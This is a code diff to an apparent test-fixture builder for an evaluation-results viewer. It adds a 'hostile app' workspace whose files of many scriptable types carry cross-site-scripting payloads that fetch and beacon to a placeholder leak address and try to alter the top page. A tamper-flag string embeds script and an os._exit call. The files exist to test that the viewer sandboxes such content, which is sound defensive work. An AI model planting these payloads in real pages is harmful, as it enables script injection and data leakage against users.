@@ -226,10 +226,7 @@ def agent(store: Store, model: str, *, seed: int, fingerprint: str = "fp-llama-1
                     (adir / "screenshot-mobile.png").write_bytes(kanban(200, 1, accent, seed + attempt))
                     ws = adir / "workspace"
                     ws.mkdir(exist_ok=True)
-                    (ws / "index.html").write_text("<!doctype html><title>app</title><h1>Kanban</h1>"
-                                                   "<img src='https://example.com/tracker.png' alt=''>"
-                                                   "<script src='app.js'></script>")
-                    (ws / "app.js").write_text("document.body.append('app ran');")
+                    write_hostile_app(ws)
                     (adir / "checklist.md").write_text("# Checklist\n- [ ] columns render\n- [ ] <b>drag</b> works\n")
                     extra.update(screenshots={"desktop": str(rel / "screenshot.png"),
                                               "mobile": str(rel / "screenshot-mobile.png")},
@@ -243,6 +240,10 @@ def agent(store: Store, model: str, *, seed: int, fingerprint: str = "fp-llama-1
                 else:
                     ok = rng.random() < _skill(model) + 0.2
                     status, score = ("passed", 1.0) if ok else ("failed", 0.0)
+                    if not ok:
+                        extra["reason"] = "none of 3 expected tests is in the grader's record"
+                        extra["verdict"] = {"passed": False, "reason": extra["reason"], "expected": 3, "n_missing": 3}
+                        extra["tamper_flags"] = [TAMPER_FLAG]
                 metrics = {"verify_s": 1.5, "turns": 4 + attempt, "tool_calls": 5, "tool_errors": 0,
                            "tokens_input": 12000, "tokens_output": 900, "tokens_cache": 8000,
                            "context_peak": 15000, "context_peak_share": 0.23, "compactions": 0,
@@ -330,3 +331,39 @@ def build(root: Path) -> dict:
         run.record({"item_id": "arc-000", "status": "correct", "correct": True, "prediction": "A", "reference": "A"})
         ids["interrupted"] = run.run_id
     return ids
+
+
+TAMPER_FLAG = "calc.py: exit hook or immediate exit: <script>alert('flag')</script>os._exit(0)"
+
+
+# A model's app that tries everything from every file type a browser may run script from: each payload
+# opens a dialog and calls out; published, none may do either outside the app's sandboxed frame.
+LEAK = "http://127.0.0.1:9/leak"
+PAYLOAD_JS = (f"alert('script ran');fetch('{LEAK}/fetch');new Image().src='{LEAK}/img';"
+              "try{top.document.title='PWNED'}catch(e){}")
+HOSTILE_FILES = {
+    "evil.svg": f'<svg xmlns="http://www.w3.org/2000/svg"><script>{PAYLOAD_JS}</script></svg>',
+    "evil.xhtml": f'<html xmlns="http://www.w3.org/1999/xhtml"><body><script>{PAYLOAD_JS}</script></body></html>',
+    "evil.xml": f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{PAYLOAD_JS}</x:script>',
+    "evil.html": f"<script>{PAYLOAD_JS}</script>",
+    "evil.htm": f"<script>{PAYLOAD_JS}</script>",
+    "evil.shtml": f"<script>{PAYLOAD_JS}</script>",
+    "evil.mhtml": f"<script>{PAYLOAD_JS}</script>",
+    "noext": f"<html><script>{PAYLOAD_JS}</script></html>",
+    "fake.png": f"<html><script>{PAYLOAD_JS}</script></html>",
+    "data.json": f"<html><script>{PAYLOAD_JS}</script></html>",
+    "style.css": f"body {{ background: url('{LEAK}/css') }} h1 {{ color: #a70 }}",
+}
+
+
+def write_hostile_app(ws: Path) -> None:
+    """A frontend attempt's kept workspace: a working app plus hostile files of every scriptable type."""
+    ws.mkdir(exist_ok=True)
+    (ws / "index.html").write_text(
+        "<!doctype html><title>app</title><link rel=stylesheet href=style.css>"
+        f"<link rel=prefetch href='{LEAK}/prefetch'><meta http-equiv=refresh content='1;url={LEAK}/refresh'>"
+        "<h1>Kanban</h1><img src='https://example.com/tracker.png' alt=''><img src='evil.svg' alt=''>"
+        f"<iframe src='evil.html'></iframe><script src='app.js'></script><script>{PAYLOAD_JS}</script>")
+    (ws / "app.js").write_text(f"document.body.append('app ran');{PAYLOAD_JS}")
+    for name, text in HOSTILE_FILES.items():
+        (ws / name).write_text(text)
